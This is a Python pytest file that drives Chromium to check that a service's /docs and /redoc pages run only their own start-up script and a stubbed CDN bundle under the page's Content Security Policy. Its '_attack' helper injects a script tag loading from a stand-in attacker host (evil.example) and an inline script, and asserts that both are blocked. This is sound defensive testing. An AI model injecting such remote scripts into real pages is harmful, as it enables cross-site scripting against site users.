"""Review 47 F7, in Chromium: with EXECBOX_API_DOCS on, /docs and /redoc run their own start-up
script and the CDN's bundle (stubbed here: no network), and nothing else: a script from another
origin, or injected inline, is refused by the page's CSP."""

from __future__ import annotations

import socket
import threading
import time
from collections.abc import Iterator
from typing import Any

import httpx
import pytest

from execbox.service.app import create_app
from execbox.service.config import ServiceSettings
from execbox.service.crypto import KeyRing, generate_key
from execbox.service.provider_manager import ProviderManager
from execbox.service.store import open_store

STUBS = {
    "swagger-ui-bundle.js": "window.SwaggerUIBundle = function (o) { window.__swaggerUrl = o.url; return {}; };"
                            "SwaggerUIBundle.presets = {apis: 1}; SwaggerUIBundle.SwaggerUIStandalonePreset = 2;",
    "redoc.standalone.js": "window.__redoc = document.querySelector('redoc').getAttribute('spec-url');",
}


@pytest.fixture(scope="module")
def docs_url(tmp_path_factory) -> Iterator[str]:  # noqa: ANN001
    import uvicorn

    data = tmp_path_factory.mktemp("docs")
    store = open_store(data)
    providers = ProviderManager(store, keyring=KeyRing(generate_key(), "test"), env={"SANDBOX_TYPE": "local"},
                                seed_file=None)
    app = create_app(store=store, providers=providers, settings=ServiceSettings.from_env({"EXECBOX_API_DOCS": "1"}))
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_level="warning"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    url = f"http://127.0.0.1:{port}"
    for _ in range(200):
        try:
            httpx.get(url + "/healthz", timeout=1)
            break
        except httpx.HTTPError:
            time.sleep(0.05)
    try:
        yield url
    finally:
        server.should_exit = True
        thread.join(10)
        providers.shutdown()
        store.close()


def _page(browser: Any, url: str) -> tuple[Any, Any, list[str], list[str]]:
    context = browser.new_context(base_url=url)
    page = context.new_page()
    cdn: list[str] = []
    other: list[str] = []

    def serve_cdn(route: Any) -> None:
        cdn.append(route.request.url)
        name = route.request.url.rsplit("/", 1)[-1]
        route.fulfill(status=200, content_type="text/css" if name.endswith(".css") else "application/javascript",
                      body=STUBS.get(name, ""))

    def serve_other(route: Any) -> None:  # reached only if the CSP let the request out
        other.append(route.request.url)
        route.fulfill(status=200, content_type="application/javascript", body="window.__evil = 1;")

    page.route("https://cdn.jsdelivr.net/**", serve_cdn)
    page.route("https://evil.example/**", serve_other)
    page.add_init_script("window.__violations = []; document.addEventListener('securitypolicyviolation', "
                         "e => window.__violations.push(e.violatedDirective + ' ' + e.blockedURI));")
    return context, page, cdn, other


def _attack(page: Any) -> None:
    page.evaluate("""() => { const s = document.createElement('script'); s.src = 'https://evil.example/x.js';
        document.head.appendChild(s);
        const i = document.createElement('script'); i.textContent = 'window.__inline = 1';
        document.head.appendChild(i); }""")
    page.wait_for_timeout(300)
    assert page.evaluate("[window.__evil, window.__inline]") == [None, None]
    violations = page.evaluate("window.__violations")
    assert any("evil.example" in v for v in violations) and any(v.startswith("script-src") for v in violations)


def test_swagger_ui_runs_its_own_script_and_nothing_else(browser: Any, docs_url: str) -> None:
    context, page, cdn, other = _page(browser, docs_url)
    try:
        page.goto("/docs")
        page.wait_for_function("window.__swaggerUrl !== undefined")
        assert page.evaluate("window.__swaggerUrl") == "/openapi.json"  # the inline start-up script ran
        assert page.evaluate("window.__violations") == []
        assert cdn and all(u.startswith("https://cdn.jsdelivr.net/npm/swagger-ui-dist@") for u in cdn)
        _attack(page)
        assert other == []
    finally:
        context.close()


def test_redoc_loads_its_bundle_and_nothing_else(browser: Any, docs_url: str) -> None:
    context, page, cdn, other = _page(browser, docs_url)
    try:
        page.goto("/redoc")
        page.wait_for_function("window.__redoc !== undefined")
        assert page.evaluate("window.__redoc") == "/openapi.json"
        assert page.evaluate("window.__violations") == []
        _attack(page)
        assert other == []
    finally:
        context.close()
